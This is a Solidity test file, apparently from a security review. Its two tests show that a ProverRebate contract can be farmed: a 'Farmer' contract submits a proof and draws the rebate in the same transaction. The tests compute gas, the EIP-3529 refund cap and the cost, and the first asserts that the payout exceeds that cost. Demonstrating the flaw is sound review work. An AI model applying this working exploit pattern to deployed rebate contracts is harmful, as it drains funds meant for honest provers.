// SPDX-License-Identifier: MIT OR Apache-2.0
pragma solidity 0.8.37;

import {ProverRebate} from "../../contracts/consumers/ProverRebate.sol";
import {Request} from "../../contracts/interfaces/IDecisionGateway.sol";
import {Gas, VM} from "../Vm.sol";
import {FedWorld} from "../support/FedWorld.sol";
import {MockConsumer} from "../support/MockConsumer.sol";

contract Farmer {
    function go(address rebate, bytes calldata call) external {
        (bool success,) = rebate.call(call);
        require(success);
        ProverRebate(payable(rebate)).draw();
    }

    receive() external payable {}
}

/// @notice A test that passes shows an attack that works.
/// forge-config: default.isolate = false
contract ReviewRebate is FedWorld {
    MockConsumer private _consumer;
    ProverRebate private _rebate;
    Farmer private _farmer;

    function setUp() external {
        buildFed();
        _consumer = new MockConsumer();
        _consumer.set(fedPolicy(1, 1 << 40, false));
        _rebate = new ProverRebate(address(manager), gateway, ProverRebate.DataFee.None, 1 ether, 2 ether);
        _rebate.list(address(_consumer), true);
        VM.deal(address(_rebate), 10 ether);
        VM.fee(10 gwei);
        VM.txGasPrice(11 gwei);
        _farmer = new Farmer();
        // Slots of gateway and consumer are written before.
        warpToNextPeriod(int192(PRICE));
        decide(address(_consumer), "s", ints(0));
    }

    /// @dev Noting and drawing within one transaction: the two slots that were paid for as new are given back.
    function test_submitAndDrawInOneTransactionEarns() external {
        warpToNextPeriod(int192(PRICE));
        Request memory made = request(address(_consumer), "s", ints(0));
        bytes memory call = abi.encodeCall(
            Farmer.go, (address(_rebate), abi.encodeCall(ProverRebate.submit, (made, prove(made))))
        );
        (bool success,) = address(_farmer).call(call);
        yes(success, "submitted and drawn");
        Gas memory gas = VM.lastCallGas();
        uint256 used = gas.gasTotalUsed + 21_000;
        for (uint256 i = 0; i < call.length; ++i) {
            used += call[i] == 0 ? 4 : 16;
        }
        // EIP-3529: at most a fifth.
        uint256 refund = uint256(int256(gas.gasRefunded));
        if (refund > used / 5) refund = used / 5;
        uint256 cost = (used - refund) * 11 gwei;
        uint256 got = address(_farmer).balance;
        emit Figures(used, refund, got / 11 gwei);
        yes(got > cost, "more than it cost");
    }

    /// @dev The same where others are owed something, so that the sum's slot is no new one.
    function test_submitAndDrawWhereOthersAreOwed() external {
        warpToNextPeriod(int192(PRICE));
        Request memory made = request(address(_consumer), "s", ints(0));
        bytes memory proof = prove(made);
        VM.prank(KEEPER, KEEPER);
        _rebate.submit(made, proof);
        warpToNextPeriod(int192(PRICE));
        made = request(address(_consumer), "s", ints(0));
        bytes memory call = abi.encodeCall(
            Farmer.go, (address(_rebate), abi.encodeCall(ProverRebate.submit, (made, prove(made))))
        );
        (bool success,) = address(_farmer).call(call);
        yes(success, "submitted and drawn");
        Gas memory gas = VM.lastCallGas();
        uint256 used = gas.gasTotalUsed;
        for (uint256 i = 0; i < call.length; ++i) {
            used += call[i] == 0 ? 4 : 16;
        }
        // Neither counts the base: the rebate's was noted for the first submission of this test, which is one transaction.
        emit Figures(used, uint256(int256(gas.gasRefunded)), address(_farmer).balance / 11 gwei);
    }

    event Figures(uint256 used, uint256 refund, uint256 repaid);
}
